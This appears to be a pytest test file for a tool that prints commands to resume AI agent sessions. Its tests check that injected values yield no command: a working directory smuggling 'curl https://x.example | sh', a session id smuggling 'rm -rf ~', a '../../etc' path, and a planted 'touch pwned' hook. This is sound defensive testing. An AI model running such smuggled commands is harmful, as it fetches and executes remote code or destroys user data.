"""A deposit's resume command is printed only from plain text."""

from __future__ import annotations

from pathlib import Path

import pytest

from flowgit.ascend.formats import as_path
from flowgit.ascend.model import Deposit


@pytest.mark.parametrize("cwd", ["/home/dev/x\ncd /home/dev/x && curl https://x.example | sh && claude --resume s #",
                                 "/home/dev/x\u2028next", "/home/dev/\x1b]0;title\x07x"])
def test_a_working_directory_with_a_control_character_gives_no_command(tmp_path, cwd):
    """shlex.quote keeps a line break: the deposit printed a line of its own that read as a whole command."""
    record = _record(Path.home() / ".claude")
    deposit = Deposit(partition="claude", slug="-home-dev-x", sid="s1", cwd=cwd, source=record)
    assert deposit.resume() is None and deposit.resumes() == []
    assert "not plain text" in deposit.why_not_resumable()
    plain = Deposit(partition="claude", slug="-home-dev-x", sid="s1", cwd="/home/dev/x", source=record)
    assert plain.resume() == "cd /home/dev/x && claude --resume s1"


def _record(config: Path) -> Path:
    """A transcript where the agent keeps one: ``{config}/projects/{slug}/{session}.jsonl``."""
    record = config / "projects" / "-home-dev-x" / "s1.jsonl"
    record.parent.mkdir(parents=True)
    record.write_text("{}\n")
    return record


def test_a_session_read_from_a_tree_the_agent_does_not_read_names_it_in_its_command(tmp_path, monkeypatch):
    """The agent looks for a session in `$CLAUDE_CONFIG_DIR`, else `~/.claude`: one read from another tree
    (`--claude-dir`) resumes only with that tree named; read from the agent's own, the command is bare."""
    elsewhere = Deposit(partition="claude", slug="-home-dev-x", sid="s1", cwd="/home/dev/x",
                        source=_record(tmp_path / "work config"))
    assert elsewhere.resume() == f"cd /home/dev/x && CLAUDE_CONFIG_DIR='{tmp_path / 'work config'}' claude --resume s1"
    monkeypatch.setenv("CLAUDE_CONFIG_DIR", str(tmp_path / "work config"))
    assert elsewhere.resume() == "cd /home/dev/x && claude --resume s1"
    odd = Deposit(partition="claude", slug="-home-dev-x", sid="s1", cwd="/home/dev/x",
                  source=_record(tmp_path / "line\nbreak"))
    assert odd.resume() is None


def test_an_episode_session_is_searched_in_the_store_it_was_read_from(tmp_path):
    """`--store PATH`: the printed search reads that store, not the directory's default one."""
    store = tmp_path / "alt store.jsonl"
    d = Deposit(partition="episodes", slug="episodes", sid="dev:alpha", cwd="/home/dev/x", source=store)
    assert d.resume() == f"cd /home/dev/x && flowgit --store '{store}' episode search --session dev:alpha"


def test_a_session_id_with_a_line_break_gives_no_command(tmp_path):
    record = tmp_path / "s1.jsonl"
    record.write_text("{}\n")
    deposit = Deposit(partition="claude", slug="-home-dev-x", sid="s1\nrm -rf ~", cwd="/home/dev/x", source=record)
    assert deposit.resume() is None


@pytest.mark.parametrize("value, read", [("/home/dev/x ", "/home/dev/x"), (["a", "b"], None), (7, None),
                                         ("", None), (None, None)])
def test_a_recorded_working_directory_is_a_string_or_nothing(value, read):
    assert as_path(value) == read


def _state() -> dict:
    from flowgit.ascend.assemble import Scope
    from flowgit.ascend.engine import State
    from flowgit.ascend.trace import RecallTrace

    return State(recall="the retry work", trace=RecallTrace(text="the retry work", keywords=["retry"]),
                 unit_type="chain", scope=Scope(), presented=[{"type": "chain", "label": "retry", "confidence":
                                                              "high", "score": 1.5, "members": ["a", "b"],
                                                              "node": None, "attempt": 1}]).to_dict()


@pytest.mark.parametrize("path, value", [
    (("presented",), [1, 2]), (("presented", 0, "members"), 7), (("trace", "entry"), 5),
    (("trace", "keywords"), [1]), (("trace", "alternates"), ["x"]), (("scope", "dropped"), 3),
    (("scope", "min_weight"), "high"), (("scope", "hops"), True), (("trace", "unknown_field"), 1),
    (("from_sid",), ["00000001"]), (("from_sid",), {"a": 1}), (("from_sid",), "../../etc"),
    (("recognized",), "chain"), (("recognized",), {"type": "bogus", "label": "x"}), (("rescopes",), [1]),
    (("rescopes",), "widen"), (("history",), [1]), (("history",), "x"),
])
def test_a_state_with_a_value_of_the_wrong_type_inside_is_refused_at_the_door(path, value):
    """An edited state crashed a later step with a traceback (exit 1, no JSON error): it is refused as read."""
    from flowgit.ascend.engine import State
    from flowgit.errors import FlowgitError

    assert State.from_dict(_state()).to_dict() == _state()  # what ascend returns reads back as it was
    data = _state()
    target = data
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = value
    with pytest.raises(FlowgitError) as refused:
        State.from_dict(data)
    assert "the state is not one ascend returned" in refused.value.message


BAD_VALUES = [None, 0, -1, 1.5, True, "", "x", "../x", [], [1], [None], ["x"], {}, {"type": "chain"}, [[1]], [{}]]


@pytest.mark.parametrize("key", sorted(_state()))
def test_any_top_level_field_of_any_type_is_read_or_refused_never_a_crash(key):
    """Whatever an agent hands back in a field, the state is read or refused as "not one ascend returned"
    (exit 2 at the command), never a traceback in a later step."""
    from flowgit.ascend.engine import State
    from flowgit.errors import FlowgitError

    for value in BAD_VALUES:
        data = {**_state(), key: value}
        try:
            state = State.from_dict(data)
        except FlowgitError as refused:
            assert "the state is not one ascend returned" in refused.message
            continue
        state.to_dict()  # (what is read is written back as ascend writes it)
        assert state.from_sid is None or isinstance(state.from_sid, str)
        assert state.recognized is None or isinstance(state.recognized, dict)
        assert all(isinstance(x, str) for x in state.rescopes) and all(isinstance(x, dict) for x in state.history)


@pytest.mark.parametrize("cwd", ["-", "-P", "~/proj", "proj", "./proj", "../proj", "x:/tmp/evil"])
def test_a_working_directory_that_is_no_absolute_path_gives_no_command(tmp_path, cwd):
    """`cd - && claude --resume …` runs in the previous directory; `~/proj` in the reader's home."""
    record = tmp_path / "s1.jsonl"
    record.write_text("{}\n")
    deposit = Deposit(partition="claude", slug="-p", sid="s1", cwd=cwd, source=record)
    assert deposit.resume() is None and "not an absolute path" in deposit.why_not_resumable()


def test_instants_compare_moments_not_wall_clock_text():
    from datetime import datetime, timezone

    from flowgit.ascend.model import instant, time_key

    tokyo, utc = instant("2026-11-06T09:00:00+09:00"), instant("2026-11-06T08:00:00Z")
    assert tokyo == datetime(2026, 11, 6, 0, 0, tzinfo=timezone.utc) and tokyo < utc
    assert instant("2026-11-06T08:00:00.000Z") == utc and instant("2026-11-06T08:00:00") == utc
    assert instant("2026-11-06") == datetime(2026, 11, 6, tzinfo=timezone.utc)
    assert [instant(x) for x in ("", None, "soon", "2026-13-01")] == [None, None, None, None]
    assert sorted([time_key(None, "a"), time_key(utc, "b"), time_key(tokyo, "c")]) == [
        time_key(tokyo, "c"), time_key(utc, "b"), time_key(None, "a")]


def _kiwi_line(config: Path, *, index_cwd: str, record_cwd: str) -> str:
    """Three sessions of one project; the second's index names ``index_cwd``, its transcript ``record_cwd``."""
    from tests.ascend.corpus import Session, write_session

    issue = {"kind": "github_issue", "ref": "#77", "channel": "user"}
    sids = [f"c700000{n}-0000-4000-8000-00000000000{n}" for n in (1, 2, 3)]
    for n, sid in enumerate(sids, 1):
        s = Session("-home-dev-p", sid, record_cwd if n == 2 else "/home/dev/p", f"2026-11-0{n}",
                    f"Kiwi eviction step {n}", ["kiwi eviction"], ["kiwi", "eviction"], cross_refs=[issue])
        deposit = write_session(config, s)
        clue = deposit / "clue.md"
        clue.write_text(clue.read_text().replace(f'cwd: "{s.cwd}"', f'cwd: "{index_cwd}"' if n == 2 else
                                                 f'cwd: "{s.cwd}"'))
    return sids[1]


def test_a_session_resumes_where_its_transcript_ran_not_where_its_index_says(run, tmp_path):
    """A slug is lossy: `/home/dev-p` and `/home/dev/p` are both `-home-dev-p`, so an index naming the wrong one
    passed every check. The transcript's lines say where the session ran: the command enters that directory;
    a transcript naming one the project cannot be resumed from prints no command, and says why."""
    import json

    from tests.ascend.corpus import resume_from

    config = tmp_path / "claude"
    sid = _kiwi_line(config, index_cwd="/home/dev-p", record_cwd="/home/dev/p")
    res = run(tmp_path, "ascend", "--claude-dir", str(config), "--partition", "claude",
              "the whole line of work on the kiwi eviction", "--json")
    deposit = next(d for d in json.loads(res.out)["unit"]["deposits"] if d["session_id"] == sid)
    assert deposit["resumes"] == [resume_from(config, "/home/dev/p", sid)]
    assert deposit["cwd"] == "/home/dev/p" and deposit["index_cwd"] == "/home/dev-p"
    text = json.loads(res.out)["text"]
    assert "(its transcript ran in '/home/dev/p'; its index says '/home/dev-p')" in text
    other = tmp_path / "other"
    sid = _kiwi_line(other / "claude", index_cwd="/home/dev/p", record_cwd="/srv/elsewhere")
    res = run(tmp_path, "ascend", "--claude-dir", str(other / "claude"), "--partition", "claude",
              "the whole line of work on the kiwi eviction", "--json")
    deposit = next(d for d in json.loads(res.out)["unit"]["deposits"] if d["session_id"] == sid)
    assert deposit["resumes"] == [] and "its transcript ran in '/srv/elsewhere'" in deposit["not_resumable"]


@pytest.mark.parametrize("entry", ["settings.json", "settings.local.json", "hooks", "plugins"])
def test_a_command_that_would_load_another_tree_s_settings_and_hooks_says_so(run, tmp_path, entry):
    """`CLAUDE_CONFIG_DIR=<tree>` makes the tree the agent's configuration: its settings' hooks run on resume.
    The command is printed with a warning beside it (and in --json); a tree with none of them, none."""
    import json

    config = tmp_path / "claude"
    _kiwi_line(config, index_cwd="/home/dev/p", record_cwd="/home/dev/p")
    recall = ("ascend", "--claude-dir", str(config), "--partition", "claude", "the whole line of work on the kiwi "
              "eviction")
    plain = json.loads(run(tmp_path, *recall, "--json").out)
    assert all(d["resume_warning"] is None for d in plain["unit"]["deposits"]) and "WARNING" not in plain["text"]
    target = config / entry
    if entry.endswith(".json"):
        target.write_text(json.dumps({"hooks": {"SessionStart": [{"hooks": [{"type": "command",
                                                                              "command": "touch pwned"}]}]}}))
    else:
        target.mkdir()
    data = json.loads(run(tmp_path, *recall, "--json").out)
    for d in data["unit"]["deposits"]:
        assert entry in d["resume_warning"] and d["resumes"]
    lines = run(tmp_path, *recall, "--no-interactive").out.splitlines()
    command = next(i for i, line in enumerate(lines) if "claude --resume" in line)
    assert lines[command - 1].strip().startswith("WARNING:") and entry in lines[command - 1]
